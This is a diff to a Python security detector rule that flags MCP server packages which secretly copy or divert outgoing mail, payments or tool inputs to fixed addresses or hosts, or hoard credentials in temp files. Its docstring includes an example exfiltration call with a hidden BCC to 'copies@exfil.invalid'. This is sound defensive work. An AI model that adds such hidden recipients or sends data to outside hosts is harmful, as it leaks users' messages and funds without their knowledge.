@@ -1,16 +1,28 @@
-"""Outgoing messages get a recipient that nobody asked for.
+"""What is sent also goes, or instead goes, to somebody whom nobody named.
 
-**What.** A mail that the package sends has a fixed address among its recipients, copies or
-blind copies: `bcc: "..."` in the options of a mail, a `Bcc` header, or an address that is written in the
-code beside the recipients that the caller gave.
+**What.**
 
-**Why.** Every mail that the assistant sends is read by somebody else, and the sender never sees
-it. This is how the first malicious MCP server that became known worked.
+- A mail that the package sends has a fixed address among its recipients, copies or blind copies: `bcc: "..."` in
+  the options of a mail, a `Bcc` header, an address that is written in the code beside the recipients that the
+  caller gave, or is put into their list.
+- A recipient, address, account or wallet that the caller gave is replaced by one that is written in the code:
+  by a condition, in a function that "normalises" it, in the request that is built from it.
+- What a tool is given is sent, in a request whose answer nobody uses, to a fixed host that is no service the
+  package or its tools speak of.
+- What a tool is given, or a credential, is put into a fixed hidden file among the temporary ones, or into a list
+  that grows there.
+
+**Why.** Every mail that the assistant sends is read by somebody else, payments arrive at another's account, and
+the sender never sees it. This is how the first malicious MCP server that became known worked.
 
 **Example.** `transport.sendMail({ to, subject, text, bcc: "copies@exfil.invalid" })`
 
-**Left alone.** A fixed sender; a fixed only recipient (a contact form); copies that the caller of the tool
-asks for; addresses that come from the configuration.
+**Reported with less weight.** Requests to a host that the README names, to one that bears the package's name and is
+not told of, or that a setting of the user allows; recipients that are exchanged on trial (`dryRun`, `testnet`).
+
+**Left alone.** A fixed sender; a fixed only recipient (a contact form); a default where none was given; copies
+that the caller of the tool asks for; addresses from the configuration; the service that the package is a client
+of; a tool that says that it sends; counts and lengths.
 """
 
 from __future__ import annotations
@@ -20,8 +32,11 @@ from collections.abc import Iterator
 from typing import TYPE_CHECKING
 
 from douane.detectors._catalogue import encoded
+from douane.detectors._diverted import diverted
 from douane.detectors._flow import HOLE, State, program_of
 from douane.detectors._flow.shapes import elements
+from douane.detectors._foreign import copies
+from douane.detectors._hoarded import hoarded
 from douane.detectors._places import evidence_at, is_aside
 from douane.model import Confidence, Severity
 from douane.rules import Evidence, Rule
@@ -30,6 +45,7 @@ if TYPE_CHECKING:
     from tree_sitter import Node
 
     from douane.detectors._flow import Index, Program
+    from douane.model import Surface
     from douane.syntax import Codebase
 
 _HIDDEN = frozenset(
@@ -63,6 +79,43 @@ def look(codebase: Codebase) -> Iterator[Evidence]:
                     why=f"every message also goes to {added}, as {kind} that nobody asked for",
                     severity=None if name in _HIDDEN else Severity.HIGH,
                 )
+
+
+    yield from _diversions(program)
+    for change, trace, place, hidden in hoarded(program):
+        yield evidence_at(
+            change.at,
+            why=f"{trace.what} ({trace.at.index.path}:{trace.at.line}) is kept in {place[:80]}, open to everybody",
+            severity=Severity.HIGH if hidden else Severity.MEDIUM,
+            confidence=Confidence.MEDIUM,
+        )
+
+
+def _diversions(program: Program) -> Iterator[Evidence]:
+    for state, fixed, trial in diverted(program):
+        yield evidence_at(
+            state,
+            why=f"the recipient that the caller gave is exchanged for, or joined by, {fixed[:80]}",
+            severity=Severity.LOW if trial else None,
+            confidence=Confidence.MEDIUM,
+        )
+
+
+def copied(codebase: Codebase, surface: Surface) -> Iterator[Evidence]:
+    """Yield the requests that take along what tools are given, to hosts that nobody spoke of."""
+    for copy in copies(codebase, program_of(codebase), surface):
+        severity = Severity.HIGH
+        if copy.disclosed:
+            severity = Severity.MEDIUM
+        if copy.opted:
+            severity = Severity.LOW
+        origin = f"{copy.trace.at.index.path}:{copy.trace.at.line}"
+        yield evidence_at(
+            copy.at,
+            why=f"{copy.trace.what} ({origin}) also goes to {', '.join(copy.hosts[:3])}, whose answer nobody uses",
+            severity=severity,
+            confidence=Confidence.MEDIUM,
+        )
 
 
 def _recipients(index: Index) -> Iterator[tuple[str, Node]]:
@@ -103,16 +156,34 @@ def _added(program: Program, name: str, state: State) -> str:
         known = [part for part in added if HOLE not in part and _ADDRESS.search(part)]
         if known and len(added) > 1:
             return known[0]
-    return ""
+    return _joined(program, state) if name in _SHOWN else ""
+
+
+def _joined(program: Program, state: State) -> str:
+    """Return the fixed address that is put into a list with others before it becomes the recipients *state*."""
+
+    def source(each: State) -> str | None:
+        around = each.node.parent
+        listed = around is not None and around.type in ("list", "set", "array", "tuple")
+        if not listed or each.node.type not in ("string", "template_string", "concatenated_string"):
+            return None
+        beyond = around.parent if around is not None else None
+        joins = beyond is not None and beyond.type in ("binary_operator", "argument_list", "arguments", "augmented_assignment")
+        text = program.shapes(each)[0]
+        return text if joins and HOLE not in text and _ADDRESS.search(text) else None
+
+    found = program.tracer(source).trace(state)
+    return found[0].what if found else ""
 
 
 RULE = Rule(
     id="silent-copy",
-    summary="outgoing messages get a recipient that nobody asked for",
+    summary="what is sent also goes, or instead goes, to somebody whom nobody named",
     severity=Severity.CRITICAL,
     confidence=Confidence.HIGH,
     row="supply.code",
     remedy="Do not use this package; tell the people whose messages went through it.",
     taxonomy=("MCP06:2025", "MCP10:2025", "SAFE-T1910", "AML.T0086"),
     code=look,
+    server=copied,
 )
